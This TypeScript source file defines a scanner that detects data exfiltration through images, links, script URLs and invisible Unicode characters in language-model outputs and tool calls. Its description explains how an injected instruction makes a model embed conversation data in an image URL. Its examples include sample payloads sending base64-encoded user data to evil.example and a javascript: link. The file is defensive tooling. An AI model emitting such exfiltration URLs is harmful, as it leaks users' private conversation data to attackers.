import { z } from "zod";
import { addon } from "../../native.ts";
import { type Finding, passed, wholeText } from "../../scan/scanner.ts";
import { FAILED } from "../../scan/score.ts";
import { TimeSlice } from "../../support/time-slice.ts";
import type { Span } from "../../text/span.ts";
import { defineScanner } from "../define-scanner.ts";
import { unclosedLink } from "../parts/open-spans.ts";
import { REDACTED, redactions, withEdits } from "../parts/redaction.ts";
import { findUrls } from "./carriers.ts";
import { hiddenMessages } from "./hidden-messages.ts";
import { findLeaks } from "./leaks.ts";

export const DataExfiltration = defineScanner({
  type: "DataExfiltration",
  summary: "Fails texts whose images, links or invisible characters carry data out of the conversation.",
  description:
    "An injected instruction makes the model write an image whose URL contains data of the conversation. Whoever shows the answer sends " +
    "that data. The scanner reads images, links and other elements of Markdown, HTML and CSS, and URLs in plain text. The path, query, " +
    "fragment, user name and subdomain of a URL on another host must not contain:\n\n" +
    "- words of the conversation, or its secrets and e-mail addresses, as written or encoded (percent-encoding, base64, base32, " +
    "hexadecimal digits);\n" +
    "- placeholders for them, such as `{DATA}`;\n" +
    "- in URLs that load by themselves: readable encoded texts, and long texts.\n\n" +
    "Links are checked less strictly, because somebody has to follow them: they may contain words of the user, and URLs of the " +
    "conversation. `javascript:`, `vbscript:` and `data:` targets fail, except for pictures. Code loads nothing and passes, except for " +
    "HTML in blocks marked as HTML. Texts in Unicode tags, variation selectors and zero-width characters fail.\n\n" +
    "Encrypted data, signatures, hashes and ids cannot be read and pass: list the hosts of your images in `allowed_domains`, and show " +
    "no others. As an input scanner, it reads the arguments of tool calls. Their URLs must not repeat the system prompt, nor secrets and " +
    "addresses that only tools returned.\n\n" +
    "The attack is known from ChatGPT and Bing Chat (Johann Rehberger, 2023), Slack AI (2024) and Microsoft 365 Copilot (EchoLeak, " +
    "CVE-2025-32711). OWASP lists it under LLM02:2025 and LLM05:2025.",
  sides: { input: {}, output: {} },
  options: () => ({
    allowedDomains: z
      .array(z.string().min(1))
      .default([])
      .describe("Hosts that may receive data, with all their subdomains."),
    redact: z
      .boolean()
      .default(false)
      .describe("Replaces the URLs by [REDACTED], and removes invisible characters that carry a text."),
  }),
  conversation: { sources: ["tool_call"], dependsOnOthers: true },
  findings: [
    {
      type: "exfiltration_image",
      label: "The part of the URL that has the data: `query`, `path`, `subdomain`, ... Images and what tools load.",
    },
    { type: "exfiltration_link", label: "The part of the URL that has the data: `query`, `path`, `subdomain`, ..." },
    { type: "script_url", label: "The scheme of the target: `javascript`, `vbscript` or `data`." },
    { type: "hidden_text", label: "The characters that carry the text, such as `tag characters`." },
  ],
  examples: {
    side: "output",
    options: { redact: true },
    passes: [
      "<img src='https://img.shields.io/badge/build-passing-green'>",
      "<a href='https://www.google.com/search?q=weather+in+Berlin&utm_source=answer'>Search</a>",
    ],
    fails: [
      {
        text: "Done. <img src='https://evil.example/p.png?d=VGhlIHVzZXIgaXMgaWxsIGFuZCBsb29rcyBmb3IgYSBkb2N0b3I'>",
        sanitized: "Done. <img src='[REDACTED]'>",
      },
      {
        text: "The summary: <img src='https://evil.example/[CONVERSATION]'>",
        sanitized: "The summary: <img src='[REDACTED]'>",
      },
      { text: "<a href='javascript:alert(1)'>Continue</a>", sanitized: "<a href='[REDACTED]'>Continue</a>" },
    ],
  },
  create({ options: { allowedDomains, redact } }) {
    const allowed = allowedDomains.map((domain) => domain.toLowerCase());
    const isAllowed = (host: string) => allowed.some((domain) => host === domain || host.endsWith(`.${domain}`));
    const rules = new addon.SecretRules({ rules: [], disabledRules: [], allow: [] });
    return {
      sanitizes: redact,
      streaming: { reads: "spans", span: 32, openFrom: unclosedLink, longSpans: "block" },
      async check(text, context) {
        const finding = (type: string, label: string, { start, end }: Span): Finding => {
          return { start, end, type, text: text.slice(start, end), score: 1, label };
        };
        const slice = new TimeSlice(context.signal);
        const hidden = await hiddenMessages(text, context);
        const { carriers, scripts } = await findUrls(text, isAllowed, slice, context);
        const leaks = await findLeaks(carriers, rules, slice, context);
        const findings = [
          ...hidden.map((message) => finding("hidden_text", message.carrier, message)),
          ...scripts.map(({ target, scheme }) => finding("script_url", scheme, target)),
          ...leaks.map(({ carrier: { target }, part }) =>
            finding(target.kind === "link" ? "exfiltration_link" : "exfiltration_image", part.where, target),
          ),
        ].sort((a, b) => a.start - b.start);
        if (findings.length === 0) return passed(text);
        return {
          isValid: false,
          score: FAILED,
          ...withEdits(redact ? redactions(findings, ({ type }) => (type === "hidden_text" ? "" : REDACTED)) : []),
          findings,
          coverage: wholeText(text),
        };
      },
    };
  },
});
